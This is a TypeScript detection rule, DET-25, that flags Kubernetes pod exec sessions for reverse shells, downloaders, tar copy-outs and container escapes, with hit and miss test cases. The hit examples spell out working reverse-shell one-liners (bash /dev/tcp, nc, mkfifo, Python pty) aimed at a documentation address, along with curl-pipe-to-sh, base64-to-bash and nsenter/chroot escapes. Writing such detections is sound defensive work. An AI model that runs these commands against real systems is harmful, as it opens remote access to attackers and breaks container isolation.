// DET-25: a command in a container opens a way out, carries files in or out, brings software or leaves the container.

import { example } from '../audit-log/example.ts'
import { begins, beyondJudging, commandOf, commandTold, commandVerbs } from '../audit-log/session.ts'
import { toolsRun } from '../audit-log/tools-run.ts'
import { defineDetection } from '../detection.ts'

const pod = { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' }
const uri = (...words: string[]) =>
  `/api/v1/namespaces/shop/pods/cart-0/exec?${words.map((word) => `command=${encodeURIComponent(word).replaceAll('%20', '+')}`).join('&')}&container=app&stdin=true&tty=true`
const run = (...words: string[]) =>
  example({ verb: 'get', ...pod, code: 101, stage: 'ResponseStarted', requestURI: uri(...words) })

export default defineDetection({
  id: 'DET-25',
  kind: 'event',
  title: 'Exec with shell, reverse shell, downloader or tar copy-out',
  criteria: ['CC6.8', 'CC7.2'],
  severity: 'high',
  select: commandVerbs,
  settings: { shells: false as boolean },
  hit(event, { shells }) {
    const command = begins(event) ? commandOf(event) : undefined
    const what = command && (beyondJudging(command) ?? toolsRun(command, shells))
    return what === undefined ? undefined : commandTold(event, what)
  },
  respond:
    'End the session and keep the pod for a look; find out what was fetched, sent or left behind. Where it was a copy for support, ask for the ticket.',
  limits:
    'A shell that is merely opened is what people do all day: DET-22 tells it, and this one where `shells` is set. The log holds the command that opened the session and nothing that was typed in it. Requests within the cluster (names without a dot, .svc, .local, .internal, private addresses) are not told.',
  sameAs: [
    'Elastic Kubernetes Pod Exec Potential Reverse Shell',
    'Elastic Kubernetes Pod Exec with Curl or Wget to HTTPS',
    'Sigma Potential Kubernetes Enumeration Activity',
    'Panther Kubernetes Data Copy via kubectl cp',
  ],
  examples: {
    hit: [
      [run('bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')],
      [
        run(
          'sh',
          '-c',
          'rm /var/tmp/f; mkfifo /var/tmp/f; cat /var/tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /var/tmp/f',
        ),
      ],
      [run('nc', '198.51.100.9', '4444', '-e', '/bin/sh')],
      [run('python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));pty.spawn("sh")')],
      [run('curl', '-o', '/var/tmp/x', 'https://files.example.com/x')],
      [run('sh', '-c', 'c""url https://files.example.com/x | sh')],
      [run('bash', '-c', 'echo aWQ= | base64 -d | bash')],
      [run('tar', 'cf', '-', '/var/lib/data')],
      [run('sh', '-c', 'tar cf - /var/lib/data | tail -c+1')],
      [run('tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/var/tmp')],
      [run('apt-get', 'install', '-y', 'nmap')],
      [run('nsenter', '-t', '1', '-m', '--', 'bash')],
      [run('chroot', '/host')],
      [example({ verb: 'create', ...pod, requestURI: uri('tar', 'cf', '-', '/x'), code: 403, decision: 'forbid' })],
      [
        example({
          verb: 'get',
          resource: 'nodes',
          subresource: 'proxy',
          name: 'ip-10-0-0-1',
          code: 101,
          stage: 'ResponseStarted',
          requestURI: '/api/v1/nodes/ip-10-0-0-1/proxy/exec/shop/cart-0/app?command=nsenter&command=-t1&output=1',
        }),
      ],
      { log: [run('/bin/bash', '-l')], settings: { shells: true } },
    ],
    miss: [
      [run('/bin/bash')],
      [run('sh', '-c', 'clear; (bash || ash || sh)')],
      [run('/bin/shell-test')],
      [run('cat', '/etc/bash_completion')],
      [run('curl', '-s', 'http://localhost:8080/healthz')],
      [run('wget', '-qO-', 'http://cart.shop.svc.cluster.local/')],
      [run('nc', '-zv', 'db', '5432')],
      [run('tar', 'tf', '-')],
      [run('tar', 'czf', '/var/tmp/dump.tgz', '/data')],
      [run('psql', '-c', 'select 1')],
      [example({ verb: 'get', ...pod, code: 101, requestURI: uri('chroot', '/host') })],
      [example({ verb: 'get', ...pod, subresource: 'attach', stage: 'ResponseStarted', code: 101 })],
      { log: [run('/bin/shell-test')], settings: { shells: true } },
    ],
  },
})
